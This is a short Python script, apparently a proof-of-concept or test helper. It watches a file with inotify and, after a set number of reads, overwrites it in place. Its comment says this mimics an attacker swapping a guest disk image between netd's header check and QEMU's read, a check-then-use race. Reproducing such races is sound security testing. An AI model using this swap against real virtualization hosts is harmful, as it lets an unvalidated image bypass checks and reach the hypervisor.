#!/usr/bin/env python3
# swap-on-read.py PATH NEW N: after the N-th read of PATH (inotify IN_ACCESS), write NEW's bytes over
# PATH in place (same inode: an fd opened on it sees them), then exit. What a user who may write a
# guest's image does between netd's check of its header and QEMU's own read of it.
import ctypes
import os
import struct
import sys

path, new, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
libc = ctypes.CDLL(None, use_errno=True)
IN_ACCESS = 0x1
fd = libc.inotify_init1(0)
if fd < 0 or libc.inotify_add_watch(fd, path.encode(), IN_ACCESS) < 0:
    sys.exit("inotify failed")
data = open(new, "rb").read()
print("watching", flush=True)
seen = 0
while seen < n:
    buf = os.read(fd, 4096)
    off = 0
    while off < len(buf):
        _, mask, _, length = struct.unpack_from("iIII", buf, off)
        off += 16 + length
        seen += bool(mask & IN_ACCESS)
with open(path, "r+b") as f:
    f.write(data)
print("swapped", flush=True)
